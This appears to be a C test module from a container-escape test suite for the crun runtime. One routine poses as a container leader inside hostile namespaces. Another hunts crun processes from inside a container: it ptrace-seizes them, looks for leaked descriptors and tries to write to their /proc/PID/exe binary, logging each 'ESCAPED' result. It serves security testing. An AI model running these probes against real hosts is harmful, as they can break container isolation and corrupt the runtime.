// Row 18: machines that are none, and processes of crun's that join a machine whose root is hostile.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "payload.h"

// On the host, as a user without rights (UID): is PID 1 of namespaces of its own with its root at TREE, as a machine's
// leader is. Says its number on the host.
static int impostor(int count, char **arguments) {
  if (count < 2) return 2;
  uid_t uid = (uid_t)atol(arguments[0]);
  if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0) return 3;
  prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
  if (unshare(CLONE_NEWUSER) < 0) return perror("unshare"), 4;
  char map[64];
  overwrite("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1\n", uid);
  if (!overwrite("/proc/self/uid_map", map) || !overwrite("/proc/self/gid_map", map)) return perror("map"), 5;
  if (unshare(CLONE_NEWPID | CLONE_NEWNS) < 0) return perror("unshare"), 6;
  pid_t child = fork();
  if (child == 0) {
    if (chroot(arguments[1]) < 0 || chdir("/") < 0) return perror("chroot"), 7;
    prctl(PR_SET_NAME, "systemd", 0, 0, 0);
    wait_for_ever();
  }
  printf("%d\n", child);
  fflush(stdout);
  waitpid(child, NULL, 0);
  return 0;
}

// In a machine, as its root: hunts for crun's processes as they come, and does with them all that it can, until it is
// killed. What it got is written to /hunted.
static int hunt(int count, char **arguments) {
  (void)count;
  (void)arguments;
  int log = open("/hunted", O_WRONLY | O_CREAT | O_APPEND, 0600);
  dprintf(log, "init %.16s\n", strstr(text_of("/proc/1/status"), "\nCapBnd:") + 9);
  for (;;) {
    DIR *processes = opendir("/proc");
    if (processes == NULL) return 1;
    for (struct dirent *entry = readdir(processes); entry != NULL; entry = readdir(processes)) {
      char path[300];
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%d/comm", pid);
      if (strncmp(text_of(path), "crun-", 5) != 0) continue;
      snprintf(path, sizeof path, "/proc/%d/status", pid);
      const char *status = text_of(path), *filter = strstr(status, "\nSeccomp:"), *bounding = strstr(status, "\nCapBnd:");
      if (filter == NULL || bounding == NULL) continue; // it has ended
      dprintf(log, "keeper %.16s, filter %c\n", bounding + 9, filter[10]);
      for (int i = 0; i < 7; i++) {
        static const char *const spaces[] = {"mnt", "pid", "ipc", "uts", "cgroup", "net", "user"};
        char own[64] = "", theirs[64] = "";
        snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, spaces[i]);
        ssize_t length = readlink(path, theirs, 63);
        snprintf(path, sizeof path, "/proc/self/ns/%s", spaces[i]);
        if (length > 0 && readlink(path, own, 63) > 0 && strcmp(own, theirs) != 0)
          dprintf(log, "ESCAPED row 18 namespace %s of %d is not the machine's\n", spaces[i], pid);
      }
      // As root of the machine it may trace them: what it then has is told above.
      int traced = ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0;
      for (int fd = 0; fd < 64; fd++) {
        char link[128] = "";
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        if (readlink(path, link, 127) <= 0) continue;
        // Pipes, sockets, what it was asked to run, and what lies in the machine under that very name.
        struct stat own, theirs;
        if (link[0] != '/' || strncmp(link, "/memfd:crun-spec", 16) == 0) continue;
        if (stat(path, &theirs) == 0 && (stat(link, &own) < 0 || own.st_dev != theirs.st_dev || own.st_ino != theirs.st_ino)) dprintf(log, "ESCAPED row 18 descriptor %d of %d: %s\n", fd, pid, link);
      }
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int program = open(path, O_WRONLY);
      if (program >= 0 && write(program, "x", 1) == 1) dprintf(log, "ESCAPED row 5 the program of %d\n", pid);
      if (program >= 0) close(program);
      if (traced) ptrace(PTRACE_DETACH, pid, NULL, NULL);
      // Who is traced and ends waits for its tracer, as for an init that takes nobody in: crun would wait as for a program.
      while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
      }
    }
    closedir(processes);
  }
}

const struct attack machine_attacks[] = {{"impostor", impostor}, {"hunt", hunt}, {NULL, NULL}};
